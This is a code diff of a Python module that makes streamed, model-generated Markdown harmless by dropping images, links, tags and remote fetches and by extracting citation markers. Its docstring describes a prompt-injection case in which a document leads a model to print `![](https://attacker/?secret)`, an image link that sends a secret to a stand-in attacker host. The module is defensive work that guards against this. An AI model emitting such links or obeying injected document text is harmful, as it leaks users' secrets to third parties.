@@ -1,51 +1,54 @@
 """Generated Markdown made harmless while it streams: no image, no link, no HTML, no remote fetch.
 
 A model can be talked into printing `![](https://attacker/?secret)` by a document. What is left is
-plain text, code and citation markers. The same pass finds the markers, since both have to know
-what is code: nothing inside code is interpreted.
+plain text, code, addresses to copy (as code), and citation markers. The same pass finds the
+markers, since both have to know what is code: nothing inside code is interpreted.
+
+Renderers differ in what they take for code, so code is written such that all of them agree: it
+closes on its line, a backtick that opens nothing is escaped, a fence begins without indentation.
+Where that is not enough (a table cuts code at `|`, `$` begins mathematics for some, a fence in a
+list ends with it), code is `defused` like text: it cannot become a link either way.
 """
 
 # ruff: noqa: RUF001 - full-width brackets are meant
 
 import re
-import unicodedata
 from collections.abc import Iterator
 from dataclasses import dataclass, field
-from typing import Literal
+from html import unescape
 
-_MAX_HELD = 600  # code points a half-open construct may hold back before it counts as plain text
+from functions.answer.safe_constructs import CONSTRUCTS, MAX_HELD, Step, address, literal
+from functions.answer.safe_pieces import Piece, defused, numbers_of, parted
+
+__all__ = ["Piece", "SafeMarkdown", "harmless", "numbers_of"]
+
 _AT_ONCE = 1000  # code points; keeps the cost of a hostile megabyte linear
-_SPECIAL = re.compile(r"[`<\[【［!\n]")
-_MARKER = re.compile(
-    r"[\[【［]\s*\^?\s*(\d{1,3}(?:\s*[,;、，\-–~]\s*\^?\d{1,3})*)(?:\s*[†:][^\]】］\[\n]{0,40})?\s*[\]】］]"
+_SPECIAL = re.compile(r"[`<\[【［!\n\\&$@]|https?://|www\.", re.IGNORECASE)
+_MAY_BEGIN_ADDRESS = re.compile(
+    r"(?<![A-Za-z])(?:h|ht|htt|https?|https?:|https?:/|w|ww|www)$", re.IGNORECASE
 )
-_CLOSER = {"[": "]", "【": "】", "［": "］"}
-_TAG = re.compile(r"<[A-Za-z/!?][^<>]*>")
-_AUTOLINK = re.compile(r"<(https?://[^<>\s]*|[^<>\s@]+@[^<>\s@]+)>")
-_TARGET = re.compile(r"\([^()\n]*(?:\([^()\n]*\)[^()\n]*)*\)")
-_FENCE = re.compile(r"[ ]{0,3}(`{3,}|~{3,})")
+_FENCE = re.compile(r"[ ]*(`{3,}|~{3,})([^\n]*)")
+_DOMAIN = re.compile(r"@[\w.-]*")
+_ENTITY = re.compile(r"&(?:#\d{1,7}|#[xX][0-9A-Fa-f]{1,6}|[A-Za-z][A-Za-z0-9]{1,31});")
+_HALF_ENTITY = re.compile(r"&#?[A-Za-z0-9]{0,32}")
 
-
-@dataclass(frozen=True, slots=True)
-class Piece:
-    """A piece of an answer: text or code to show as it is, or a marker's passage numbers."""
-
-    kind: Literal["text", "code", "marker"]
-    text: str = ""
-    numbers: tuple[int, ...] = ()
+_NO_STEP: Step = (0, [])
 
 
 @dataclass(slots=True)
 class SafeMarkdown:
     """Turns streamed Markdown into harmless pieces.
 
-    Holds back only what is half open: a bracket, a tag, a code span.
+    Holds back only what is half open: a bracket, a tag, a code span, an address.
     """
 
     _held: str = ""
     _fence: str = ""
-    _line_start: bool = True
-    _last: str = field(default="\n")
+    _fence_certain: bool = True
+    _doubtful: bool = False  # what is code to us may be text to somebody from here on
+    _line: str = ""  # what was sent of the current line, as it reads
+    _tail: str = field(default="\n")  # the last characters that were sent, as they read
+    _after_marker: bool = False
 
     def feed(self, text: str) -> list[Piece]:
         """Return the pieces that are certain after `text`."""
@@ -66,8 +69,7 @@ class SafeMarkdown:
             if step is None:
                 break
             length, found = step
-            consumed, self._held = self._held[:length], self._held[length:]
-            self._line_start = consumed.endswith("\n")
+            self._held = self._held[length:]
             for piece in found:
                 guarded = self._guarded(piece)
                 if guarded.text or guarded.numbers:
@@ -75,143 +77,125 @@ class SafeMarkdown:
         return pieces
 
     def _guarded(self, piece: Piece) -> Piece:
-        """Keep pieces from forming a link or a tag with what was already sent."""
-        if piece.kind == "marker":
-            self._last = "]"
-            return piece
-        text = piece.text
-        if piece.kind == "text":
-            text = re.sub(r"(?<=\])(?=[(\[:])", " ", text)
-            text = re.sub(r"<(?=[A-Za-z/!?])", "< ", text)
-            if (self._last == "]" and text[:1] in {"(", "[", ":"}) or (
-                self._last == "<" and re.match(r"[A-Za-z/!?]", text)
-            ):
-                text = " " + text
-        self._last = text[-1:] or self._last
-        return Piece(piece.kind, text)
+        """Keep a piece from forming a link, a tag or other code with what was already sent.
 
-    def _next(self, *, final: bool) -> tuple[int, list[Piece]] | None:
+        A marker may be dropped later: what stands around it is looked at as if it were not there.
+        """
+        if piece.kind == "marker":
+            self._after_marker = True
+            return piece
+        read = piece.reads
+        if piece.kind == "text":
+            piece = parted(piece, self._tail, after_marker=self._after_marker)
+            signs = self._tail[-2:] + read
+            self._doubtful |= piece.text == "$" or ":::" in signs or "~~~" in signs
+        elif self._tail.endswith("`"):
+            piece = Piece("code", " " + piece.text)
+        self._after_marker = False
+        self._line = (self._line + read).rpartition("\n")[2]
+        self._tail = (self._tail + piece.reads)[-16:]
+        return piece
+
+    def _next(self, *, final: bool) -> Step | None:
         held = self._held
-        if self._line_start:
+        if not self._line.strip(" ") and not self._after_marker:
             step = self._fence_opening(final=final)
-            if step != (0, []):
+            if step != _NO_STEP:
                 return step
         match = _SPECIAL.search(held)
         if match is None:
-            return len(held), [Piece("text", held)]
+            half = None if final else _MAY_BEGIN_ADDRESS.search(held)
+            if half is None:
+                return len(held), [Piece("text", held)]
+            return (half.start(), [Piece("text", held[: half.start()])]) if half.start() else None
         if match.start():
             return match.start(), [Piece("text", held[: match.start()])]
-        if held[0] == "\n":
-            return 1, [Piece("text", "\n")]
-        construct = {"`": _code, "<": _tag, "!": _image}.get(held[0], _bracket)
-        step = construct(held, final=final)
-        if step is None and (final or len(held) > _MAX_HELD):
-            return 1, [Piece("text", held[0])]
+        step = self._construct(held, final=final)
+        if step is None and (final or len(held) > MAX_HELD):
+            return 1, [literal(held[0])]
         return step
 
-    def _fence_opening(self, *, final: bool) -> tuple[int, list[Piece]] | None:
+    def _construct(self, held: str, *, final: bool) -> Step | None:
+        if held[0] in "\n$":
+            return 1, [Piece("text", held[0])]
+        own = {"`": self._code, "&": self._entity, "@": self._domain}
+        construct = own.get(held[0]) or CONSTRUCTS.get(held[0], address)
+        return construct(held, final=final)
+
+    def _fence_opening(self, *, final: bool) -> Step | None:
         """Return the opening line of a fenced block, None to wait, or (0, []) for no fence."""
         head = self._held.lstrip(" ")
         if not final and len(head) < 3 and head in {"", "`", "``", "~", "~~"}:  # noqa: PLR2004
             return None
         match = _FENCE.match(self._held)
         if match is None:
-            return 0, []
+            return _NO_STEP
         end = self._held.find("\n")
         if end < 0 and not final:
-            return None
+            return None if len(self._held) <= MAX_HELD else _NO_STEP
+        indent = len(self._line) + len(self._held) - len(head)
+        if indent > 3 or (match[1][0] == "`" and "`" in match[2]):  # noqa: PLR2004 - as in CommonMark
+            return _NO_STEP
         end = len(self._held) if end < 0 else end + 1
         self._fence = match[1]
-        return end, [Piece("code", self._held[:end])]
+        self._fence_certain = not indent and not self._doubtful
+        self._doubtful |= not self._fence_certain
+        line = self._held[:end]
+        return end, [Piece("code", line if self._fence_certain else defused(line))]
 
-    def _fenced(self, *, final: bool) -> tuple[int, list[Piece]] | None:
+    def _fenced(self, *, final: bool) -> Step | None:
         end = self._held.find("\n")
         if end < 0 and not final:
             return None
         end = len(self._held) if end < 0 else end + 1
         line = self._held[:end]
-        closing = line.strip()
-        if set(closing) == {self._fence[0]} and len(closing) >= len(self._fence):
+        closing = line.rstrip(" \t\n")
+        run = closing.lstrip(" ")
+        if (
+            len(closing) - len(run) <= 3  # noqa: PLR2004 - as in CommonMark
+            and set(run) == {self._fence[0]}
+            and len(run) >= len(self._fence)
+        ):
             self._fence = ""
-        return end, [Piece("code", line)]
+        return end, [Piece("code", line if self._fence_certain else defused(line))]
 
-
-def numbers_of(marker: str) -> tuple[int, ...]:
-    """Return the passage numbers of a marker's inside (`1, 3`, `2-4`, full-width digits too)."""
-    found: list[int] = []
-    for item in re.split(r"[,;、，]", unicodedata.normalize("NFKC", marker).replace("^", "")):
-        ends = [int(number) for number in re.findall(r"\d+", item)]
-        if len(ends) == 2 and ends[0] <= ends[1] <= ends[0] + 20:  # noqa: PLR2004 - a range
-            found += range(ends[0], ends[1] + 1)
-        else:
-            found += ends
-    return tuple(dict.fromkeys(found))
-
-
-def _code(held: str, *, final: bool) -> tuple[int, list[Piece]] | None:
-    run = re.match(r"`+", held)
-    ticks = run[0] if run else "`"
-    if len(ticks) == len(held) and not final:
+    def _code(self, held: str, *, final: bool) -> Step | None:
+        run = re.match(r"`+", held)
+        ticks = run[0] if run else "`"
+        if len(ticks) == len(held) and not final:
+            return None
+        line = held.partition("\n")[0]
+        close = re.search(rf"(?<!`){ticks}(?!`)", line[len(ticks) :])
+        if close and (final or len(ticks) + close.end() < len(held)):
+            end = len(ticks) + close.end()
+            code = held[:end]
+            certain = not self._doubtful and "|" not in code
+            return end, [Piece("code", code if certain else defused(code))]
+        if final or len(line) < len(held):
+            return len(ticks), [literal("`") for _ in ticks]
         return None
-    line = held.partition("\n")[0]
-    close = re.search(rf"(?<!`){ticks}(?!`)", line[len(ticks) :])
-    if close and (final or len(ticks) + close.end() < len(held)):
-        end = len(ticks) + close.end()
-        return end, [Piece("code", held[:end])]
-    if final or len(line) < len(held):
-        return len(ticks), [Piece("text", ticks)]
-    return None
 
+    def _entity(self, held: str, *, final: bool) -> Step | None:
+        """Write `&#58;` as the character it is, so that it is looked at like any other."""
+        if match := _ENTITY.match(held):
+            character = unescape(match[0])
+            if character != match[0]:
+                self._held = character + held[match.end() :]
+                return _NO_STEP
+        elif not final and _HALF_ENTITY.fullmatch(held):
+            return None
+        return 1, [Piece("text", "&")]
 
-def _tag(held: str, *, final: bool) -> tuple[int, list[Piece]] | None:
-    if len(held) > 1 and not re.match(r"[A-Za-z/!?]", held[1]):
-        return 1, [Piece("text", "<")]
-    if match := _AUTOLINK.match(held):
-        return match.end(), [Piece("text", match[1])]
-    if match := _TAG.match(held):
-        return match.end(), []
-    return None if not final else (1, [Piece("text", "<")])
-
-
-def _image(held: str, *, final: bool) -> tuple[int, list[Piece]] | None:
-    if len(held) == 1 and not final:
-        return None
-    if held[1:2] != "[":
-        return 1, [Piece("text", "!")]
-    step = _bracket(held[1:], final=final)
-    return None if step is None else (step[0] + 1, step[1])
-
-
-def _bracket(held: str, *, final: bool) -> tuple[int, list[Piece]] | None:
-    line = held.partition("\n")[0]
-    end = line.find(_CLOSER[held[0]])
-    inner = line[1:end] if end > 0 else line[1:]
-    nested = re.search(r"[\[【［`<]", inner)
-    if nested or (end < 0 and (final or len(line) < len(held))):
-        return 1, [Piece("text", held[0])]
-    if end < 0:
-        return None
-    end += 1
-    if end == len(held) and not final:
-        return None  # the next character decides whether this is a link
-    marker = _MARKER.fullmatch(held[:end])
-    found = [Piece("marker", numbers=numbers_of(marker[1]))] if marker else []
-    if held[end : end + 1] in {"(", "["} and held[0] == "[":
-        return _link(held, end, found or [Piece("text", inner)], final=final)
-    return end, found or [Piece("text", held[:end])]
-
-
-def _link(
-    held: str, end: int, shown: list[Piece], *, final: bool
-) -> tuple[int, list[Piece]] | None:
-    """Drop the target of a link or an image; `shown` is what stands for it."""
-    if held[end] == "[":
-        return end, shown if shown[0].kind == "marker" else [Piece("text", held[:end])]
-    if target := _TARGET.match(held, end):
-        return target.end(), shown
-    if final or "\n" in held[end:] or len(held) - end > _MAX_HELD:
-        return end, shown
-    return None
+    def _domain(self, held: str, *, final: bool) -> Step | None:
+        """Write what makes an e-mail address of the word before as code."""
+        match = _DOMAIN.match(held)
+        end = match.end() if match else 1
+        if end == len(held) and not final and end <= MAX_HELD:
+            return None
+        name = held[:end].rstrip("._-")
+        if len(name) == 1 or not re.search(r"[\w.+-]$", self._tail):
+            return 1, [Piece("text", "@")]
+        return len(name), [Piece("code", f"`{name}`")]
 
 
 def harmless(text: str) -> Iterator[Piece]:
